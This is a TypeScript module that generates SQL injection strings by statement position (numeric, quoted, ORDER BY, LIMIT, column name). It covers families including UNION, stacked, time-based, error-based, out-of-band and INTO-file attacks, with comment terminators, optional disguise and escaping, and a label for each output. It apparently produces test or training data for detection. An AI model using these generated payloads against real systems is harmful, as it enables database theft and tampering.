/** Attacks in the statements of an application: a payload that fits its place, in disguise or not. */

import { disguise } from "./attack-disguises.ts";
import { Payloads } from "./attack-payloads.ts";
import { MEANT, PLACES, type Place } from "./attack-places.ts";
import { Chooser } from "./attack-questions.ts";

export interface GeneratedAttack {
  /** What the payload does. */
  readonly fam: string;
  readonly sql: string;
  /** The statement as the application meant it. */
  readonly meant: string;
  /** The application made a literal of it. */
  readonly isEscaped: boolean;
}

/** One payload: what it does, and what stands before, in and behind it. Only the middle is disguised. */
interface Injection {
  readonly fam: string;
  readonly before: string;
  readonly middle: string;
  readonly after: string;
}

function escaped(text: string, dice: Chooser): string {
  const safe = text.replaceAll("\\", "\\\\").replaceAll("\0", "\\0");
  const isDoubled = dice.chance(0.5);
  return safe.replaceAll(/['"]/g, (quote) => (isDoubled ? quote + quote : `\\${quote}`));
}

class Writer {
  readonly #dice: Chooser;
  readonly #payloads: Payloads;

  constructor(dice: Chooser) {
    this.#dice = dice;
    this.#payloads = new Payloads(dice);
  }

  attack(): GeneratedAttack {
    const dice = this.#dice;
    const chosen = dice.of(...PLACES);
    const { fam, before, middle, after } = this.#injection(chosen);
    const isDisguised = dice.chance(0.45);
    const payload = before + (isDisguised ? disguise(middle, dice) : middle) + after;
    // Some applications escape what they are sent: then it must stay quiet.
    const isQuoted = chosen.kind === "single" || chosen.kind === "double";
    const isEscaped = isQuoted && dice.chance(0.3);
    const text = isEscaped ? escaped(payload, dice) : payload;
    return {
      fam: `${fam}${isDisguised ? " disguised" : ""}`,
      sql: chosen.text.replace("?", () => text),
      meant: chosen.text.replace("?", MEANT[chosen.kind]),
      isEscaped,
    };
  }

  #injection(chosen: Place): Injection {
    switch (chosen.kind) {
      case "number":
        return this.#atNumber(chosen);
      case "single":
        return this.#atText(chosen, "'");
      case "double":
        return this.#atText(chosen, '"');
      case "order":
        return this.#atOrder();
      case "limit":
        return this.#atLimit();
      case "name":
        return this.#atName("");
      case "quotedName":
        return this.#atName("`");
    }
  }

  /** What cuts off the rest, or nothing. */
  #cut(): string {
    return this.#dice.of("-- ", "-- -", "#", "--+", " -- x", ";-- ", "; #", " /*", ";\0");
  }

  #closing(chosen: Place): string {
    return chosen.open > 0 && this.#dice.chance(0.5) ? ")".repeat(chosen.open) : "";
  }

  #atNumber(chosen: Place): Injection {
    const dice = this.#dice;
    const payloads = this.#payloads;
    const closing = this.#closing(chosen);
    const start = dice.of("1", "-1", "0", "999", "null", "1.", "'1'") + closing;
    const goesOn = closing === "" ? "" : ` AND ${"(".repeat(chosen.open)}${dice.of("7=7", "id=id", "1", "id>0")}`;
    const after = dice.chance(0.5) ? goesOn : this.#cut();
    if (!chosen.isCondition || dice.chance(0.2))
      return { fam: "inline", before: "", middle: this.#arithmetic(payloads.value()), after: "" };
    return { before: start, after, ...this.#added() };
  }

  /** Some hide what they ask in a sum. */
  #arithmetic(value: string): string {
    const sign = this.#dice.from("+ ¦ - ¦ * ¦ / ¦ ^ ¦ | ¦ & ¦ % ¦ DIV ¦ << ¦ ||");
    return this.#dice.of(
      value,
      value,
      `(${value})`,
      `1 ${sign} ${value}`,
      `1${sign === "DIV" ? " DIV " : sign}(${value})`,
      `-(${value})`,
      `${value}+0`,
    );
  }

  /** What may follow a value in a condition. */
  #added(): { fam: string; middle: string } {
    const dice = this.#dice;
    const payloads = this.#payloads;
    const joiner = dice.from("AND ¦ AND ¦ AND ¦ OR ¦ OR ¦ && ¦ || ¦ XOR ¦ AND NOT ¦ OR NOT");
    return dice.of(
      () => ({ fam: "boolean", middle: ` ${joiner} ${payloads.dressed(payloads.question())}` }),
      () => ({ fam: "boolean", middle: ` ${joiner} ${payloads.dressed(payloads.question())}` }),
      () => ({ fam: "boolean", middle: ` ${joiner} ${payloads.question()}` }),
      () => ({ fam: "truth", middle: ` ${joiner} ${payloads.truth()}` }),
      () => ({ fam: "truth", middle: ` ${joiner} ${payloads.dressed(payloads.truth())}` }),
      () => ({ fam: "error", middle: ` ${joiner} ${payloads.error()}` }),
      () => ({ fam: "conditional error", middle: ` ${joiner} ${payloads.conditionalError()}` }),
      () => ({ fam: "time", middle: ` ${joiner} ${payloads.delay()}` }),
      () => ({ fam: "union", middle: ` ${payloads.union()}` }),
      () => ({ fam: "union", middle: ` ${payloads.union()}` }),
      () => ({
        fam: "order probe",
        middle: ` ${dice.of("ORDER", "GROUP")} BY ${dice.of(this.#payloads.number(), payloads.value(), "RAND()", "1,2,3,4")}`,
      }),
      () => ({ fam: "stacked", middle: `; ${payloads.stacked()}` }),
      () => ({ fam: "out of band", middle: ` ${joiner} ${payloads.outOfBand()}` }),
      () => ({ fam: "out of band", middle: ` ${payloads.intoFile()}` }),
      () => ({ fam: "procedure", middle: ` PROCEDURE ANALYSE(${payloads.error()},1)` }),
      () => ({ fam: "having", middle: ` HAVING ${payloads.dressed(dice.of(payloads.truth(), payloads.question()))}` }),
    )();
  }

  #atText(chosen: Place, quote: string): Injection {
    const dice = this.#dice;
    const payloads = this.#payloads;
    const start = dice.of("x", "", "admin", "1", "%");
    const q = quote;
    if (!chosen.isCondition || dice.chance(0.3)) {
      const sign = dice.from(
        "+ ¦ - ¦ ^ ¦ * ¦ / ¦ | ¦ & ¦ || ¦ = ¦ < ¦ > ¦ <> ¦ <=> ¦ % ¦ << ¦ AND ¦ OR ¦ XOR ¦ DIV ¦ RLIKE ¦ LIKE ¦ !=",
      );
      const spaced = / |\w/.test(sign) ? ` ${sign} ` : sign;
      if (dice.chance(0.12))
        return {
          fam: "bare sum",
          before: `${start}${q}`,
          middle: `${spaced}${dice.of("0", "1", `${q}${q}`)}`,
          after: `${spaced}${q}`,
        };
      const value = payloads.value();
      if (chosen.open > 0 && dice.chance(0.3) && !chosen.isCondition) {
        return {
          fam: "inline row",
          before: `${start}${q}`,
          middle: dice.of(`,${value})`, `),(${value},${q}x${q})`),
          after: this.#cut(),
        };
      }
      if (!chosen.isCondition && dice.chance(0.2))
        return { fam: "inline set", before: `${start}${q}`, middle: `, name=${value}`, after: this.#cut() };
      return { fam: "inline text", before: `${start}${q}`, middle: `${spaced}(${value})${spaced}`, after: q };
    }
    if (dice.chance(0.05))
      return { fam: "cut", before: `admin${q}`, middle: this.#closing(chosen), after: this.#cut() };
    const closing = this.#closing(chosen);
    const { fam, middle } = this.#added();
    const open = closing === "" ? "" : "(".repeat(chosen.open);
    const goesOn = dice.of(
      ` AND ${open}${q}a${q}=${q}a`,
      ` OR ${open}${q}a${q}=${q}b`,
      ` AND ${open}${q}a${q} LIKE ${q}a`,
      ` AND ${open}${q}1`,
      ` AND ${open}name<>${q}`,
      ` || ${open}${q}`,
      ` OR ${open}${q}`,
    );
    return { fam, before: `${start}${q}${closing}`, middle, after: dice.chance(0.5) ? goesOn : this.#cut() };
  }

  #atOrder(): Injection {
    const dice = this.#dice;
    const payloads = this.#payloads;
    const middle = dice.of(
      () => payloads.value(),
      () => `IF(${payloads.question()},id,price)`,
      () => `(CASE WHEN ${payloads.question()} THEN id ELSE price END)`,
      () => `IF(${payloads.truth()},id,price)`,
      () => `id,${payloads.value()}`,
      () => `id*${payloads.question()}`,
      () => `FIELD(id,${payloads.measure()})`,
      () => `RAND(${payloads.question()})`,
      () => `(${payloads.question()}) DESC`,
      () => `price RLIKE ${payloads.secret()}`,
      () => `ELT(${payloads.question()},id,price)`,
      () => `1 ASC, ${payloads.value()}`,
    )();
    return { fam: "order", before: "", middle, after: dice.of("", "", this.#cut()) };
  }

  #atLimit(): Injection {
    const payloads = this.#payloads;
    const middle = this.#dice.of(
      () => `5 ${payloads.union()}`,
      () => `5 ${payloads.intoFile()}`,
      () => `5 PROCEDURE ANALYSE(${payloads.error()},1)`,
      () => `5; ${payloads.stacked()}`,
    )();
    return { fam: "limit", before: "", middle, after: this.#dice.of("", this.#cut()) };
  }

  #atName(quote: string): Injection {
    const dice = this.#dice;
    const payloads = this.#payloads;
    const middle = dice.of(
      () => `,${payloads.value()}`,
      () => `,${payloads.secret()}`,
      () => `, ${payloads.column()}, ${payloads.delay()}`,
      () => ` FROM member ${dice.of("", "WHERE 1=1", "LIMIT 1")} ${this.#cut()}`,
      () => ` FROM item ${payloads.union()} ${this.#cut()}`,
      () => `=${payloads.value()}`,
      () => ` AND ${payloads.dressed(payloads.question())}`,
    )();
    const after = quote === "" ? "" : dice.of(` AS ${quote}x`, `,${quote}id`, ` -- `, ` #`);
    return { fam: "name", before: `id${quote}`, middle, after };
  }
}

/** As many attacks as asked for; whether a server takes them is not yet known. */
export function* generateAttacks(count: number, seed: number): Generator<GeneratedAttack> {
  const writer = new Writer(new Chooser(seed));
  for (let made = 0; made < count; made++) yield writer.attack();
}
